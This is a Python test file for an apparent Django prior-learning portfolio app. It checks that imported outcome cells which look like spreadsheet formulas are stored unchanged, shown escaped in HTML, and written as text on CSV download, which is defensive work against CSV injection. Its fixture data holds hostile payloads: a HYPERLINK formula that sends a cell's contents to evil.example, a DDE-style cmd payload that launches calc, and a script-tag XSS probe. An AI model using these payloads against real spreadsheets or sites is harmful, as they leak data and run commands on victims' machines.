"""Cells a spreadsheet would run as formulas (=, +, -, @, a tab or a carriage return
first) are stored exactly as text, shown escaped, and never exported as formulas."""

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from portfolio.apel import programmes as service
from portfolio.models import Course, Programme
from tests.accounts.institutions.conftest import Staff
from tests.conftest import People
from tests.portfolio.apel.conftest import Programmes

pytestmark = pytest.mark.django_db

FORMULAS = {
    "=HX": '=HYPERLINK("https://evil.example/?q="&A1,"Click for credit")',
    "+SUM": "+SUM(A1:A9)",
    "-CALC": "-2+3",
    "@CMD": "@SUM(1+1)*cmd|' /C calc'!A0",
    "TAB": "\t=1+1",
    "CR": "\r=1+1",
    "HTML": "<script>alert('outcome')</script>",
}
FILE = (
    "course_code,course_title,outcome_code,outcome_text,credits\r\n"
    + "".join(
        '@C1,"=HYPERLINK(""https://evil.example"")",{code},"{text}",1\r\n'.format(
            code=code, text=text.replace('"', '""')
        )
        for code, text in FORMULAS.items()
    )
    + ',,"=LO9",Plain words,2\r\n'
)


def _as_text(cell: str) -> str:
    """How a cell must appear in a download: with an apostrophe first if a spreadsheet
    would otherwise run it (OWASP's advice for CSV injection)."""
    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell


def _import(client: Client, staff: Staff, programme: Programme) -> Any:
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(staff.admin)
    args = [staff.institution.slug, programme.public_id]
    upload = SimpleUploadedFile("o.csv", FILE.encode(), content_type="text/csv")
    preview = client.post(reverse("apel_staff:programme_import", args=args), {"file": upload})
    assert preview.status_code == 200, preview.content.decode()[-2000:]
    confirm = reverse("apel_staff:programme_import_confirm", args=args)
    client.post(confirm, {"token": preview.context["token"]})
    return preview


def _download(client: Client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_formula_cells_are_stored_exactly_as_written(
    client: Client, staff: Staff, programmes: Programmes
) -> None:
    _import(client, staff, programmes.draft)
    stored = dict(programmes.draft.outcomes.filter(code__in=FORMULAS).values_list("code", "text"))
    assert stored == FORMULAS
    assert programmes.draft.outcomes.filter(code="=LO9").exists()
    course = Course.objects.get(programme=programmes.draft, code="@C1")
    assert course.title == '=HYPERLINK("https://evil.example")'


def test_formula_cells_are_shown_as_escaped_text(
    client: Client, people: People, staff: Staff, programmes: Programmes
) -> None:
    preview = _import(client, staff, programmes.draft).content.decode()
    service.programme_publish(programme=programmes.draft)
    manage = client.get(
        reverse(
            "apel_staff:programme_manage", args=[staff.institution.slug, programmes.draft.public_id]
        )
    ).content.decode()
    client.force_login(people.learner)
    detail = client.get(
        reverse("apel:programme_detail", args=[programmes.draft.public_id])
    ).content.decode()
    for html in (preview, manage, detail):
        assert "<script>alert" not in html
        assert "&lt;script&gt;alert(&#x27;outcome&#x27;)&lt;/script&gt;" in html
        assert "=HYPERLINK(&quot;https://evil.example/?q=&quot;&amp;A1" in html
        assert '<span class="outcome-text">\t=1+1</span>' in html


def test_the_download_writes_formula_cells_as_text(
    client: Client, people: People, staff: Staff, programmes: Programmes
) -> None:
    _import(client, staff, programmes.draft)
    url = reverse(
        "apel_staff:programme_outcomes_csv",
        args=[staff.institution.slug, programmes.draft.public_id],
    )
    rows = _download(client, url)
    assert rows[0] == ["course_code", "course_title", "outcome_code", "outcome_text", "credits"]
    by_code = {row[2]: row for row in rows[1:]}
    for code, text in FORMULAS.items():
        row = by_code[_as_text(code)]
        title = _as_text('=HYPERLINK("https://evil.example")')
        assert row == ["'@C1", title, _as_text(code), _as_text(text), "1"]
    assert by_code["'=HX"][3] == "'" + FORMULAS["=HX"]
    assert by_code["HTML"][3] == FORMULAS["HTML"]  # nothing to neutralise: kept as it is
    assert by_code["'=LO9"] == ["", "", "'=LO9", "Plain words", "2"]
    for row in rows:  # nothing a spreadsheet would run, in any cell
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_a_learner_downloads_outcomes_they_typed_in_safely(
    client: Client, people: People, programmes: Programmes
) -> None:
    client.force_login(people.learner)
    new = reverse("apel:programme_outcome_new", args=[programmes.entered.public_id])
    response = client.post(
        new, {"outcome-code": "+X", "outcome-text": "=1+1", "outcome-credits": ""}
    )
    assert response.status_code == 302
    assert programmes.entered.outcomes.get(code="+X").text == "=1+1"
    rows = _download(
        client, reverse("apel:programme_outcomes_csv", args=[programmes.entered.public_id])
    )
    assert ["", "", "'+X", "'=1+1", ""] in rows
